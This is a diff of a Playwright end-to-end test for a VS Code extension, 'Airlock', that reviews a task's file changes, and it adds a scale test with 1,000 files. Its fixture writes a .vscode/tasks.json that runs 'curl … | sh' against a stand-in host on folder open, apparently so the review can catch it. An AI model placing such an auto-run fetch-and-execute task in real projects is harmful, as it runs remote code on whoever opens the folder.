@@ -10,7 +10,7 @@ import * as path from 'node:path';
 import { describe } from 'node:test';
 import type { Locator, Page } from 'playwright-core';
 import { CLI, SAMPLE_FILES, useE2ESession } from './harness/session.js';
-import { answerDialog, clickNotificationButton, clickTreeItemAction, editorTab, openViewContainer, runCommand, UI_TIMEOUT_MS, waitForNotification, waitForTreeItem, waitForWorkbench } from './harness/workbench.js';
+import { widenSideBar, clickNotificationButton, clickTreeItemAction, editorTab, openViewContainer, runCommand, UI_TIMEOUT_MS, waitForNotification, waitForTreeItem, waitForWorkbench } from './harness/workbench.js';
 
 const lines = (prefix: string, count: number) => Array.from({ length: count }, (_, index) => `${prefix} ${index + 1}\n`).join('');
 
@@ -110,11 +110,12 @@ describe('reviewing a task\'s changes in VS Code', () => {
       "printf 'beta one\\nbeta two, from the task\\n' > src/beta.txt",
       "printf 'gamma one\\ngamma two, from the task\\n' > src/gamma.txt",
       "mkdir -p assets .vscode && printf '\\211PNG\\r\\n\\032\\n\\000\\000\\000\\rIHDR' > assets/logo.bin",
-      `printf '%s\\n' '{"version":"2.0.0","tasks":[{"label":"setup","type":"shell","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`,
+      `printf '%s\\n' '{' '  "version": "2.0.0",' '  "tasks": [' '    {' '      "label": "setup",' '      "type": "shell",' '      "command": "curl -s https://example.invalid/setup | sh",' '      "runOptions": { "runOn": "folderOpen" }' '    }' '  ]' '}' > .vscode/tasks.json`,
     ].join(' && '));
     beforeApply = treeDigest(session.workspace);
 
     await openViewContainer(page, 'Airlock');
+    await widenSideBar(page, 480);
     await waitForTreeItem(page, 'Tasks', new RegExp(taskId), 60_000);
     await clickTreeItemAction(page, 'Tasks', new RegExp(taskId), 'Review Changes');
     await scmResource(page, 'tasks.json').first().waitFor({ timeout: 60_000 });
@@ -224,6 +225,31 @@ describe('reviewing a task\'s changes in VS Code', () => {
     assert.equal(await exited, 0, `the requester: ${out}`);
     assert.equal(host('src/delta.txt'), 'delta, new in the task\n');
     assert.equal(fs.existsSync(path.join(session.workspace, 'src/epsilon.txt')), false, 'only the requested file was written');
-    void answerDialog;
+  });
+
+  session.test('scale: a thousand changed files and a 10 MB text file: the review draws them, and the big file\'s diff opens', async () => {
+    const { page } = session;
+    await boxSh([
+      'mkdir -p many',
+      'i=0; while [ $i -lt 1000 ]; do printf "file %s\\n" $i > many/f$i.txt; i=$((i+1)); done',
+      "head -c 10485760 /dev/zero | tr '\\0' 'x' | fold -w 99 > big.txt",
+    ].join(' && '));
+    // The request's view is gone; the task's own review is unfolded again (scenario 6 folded it).
+    const own = scmRows(page).filter({ has: page.locator('.scm-provider') }).filter({ hasText: /Airlock: / }).first();
+    if ((await own.getAttribute('aria-expanded')) === 'false') await own.locator('.monaco-tl-twistie').click();
+    const started = Date.now();
+    // A source control's row shows two of its title actions; the rest are in its "…" menu and the palette.
+    await runCommand(page, 'Airlock: Refresh Review');
+    // The Changes group's count says how many rows it holds, drawn or not (the list draws what is in sight).
+    const changes = scmRows(page).filter({ has: page.locator('.resource-group .name', { hasText: /^Changes$/ }) }).first();
+    await page.waitForFunction(`[...document.querySelectorAll('.scm-view .monaco-list-row .resource-group')].some((group) => group.querySelector('.name')?.textContent.trim() === 'Changes' && Number(group.querySelector('.count')?.textContent) >= 1001)`, undefined, { timeout: 120_000 });
+    const drawn = Date.now() - started;
+    assert.match(await changes.innerText(), /100\d/);
+    const opening = Date.now();
+    await scmResource(page, 'big.txt').first().click({ timeout: UI_TIMEOUT_MS });
+    const diff = page.locator('.part.editor .monaco-diff-editor').first();
+    await diff.locator('.modified .view-lines').getByText(/^x{99}$/).first().waitFor({ timeout: 60_000 });
+    console.log(`review at 1,000+ files: ${drawn} ms from Refresh Review to the rows; ${Date.now() - opening} ms from a click on the 10 MB file to its diff`);
+    await session.shot('review-scale');
   });
 });
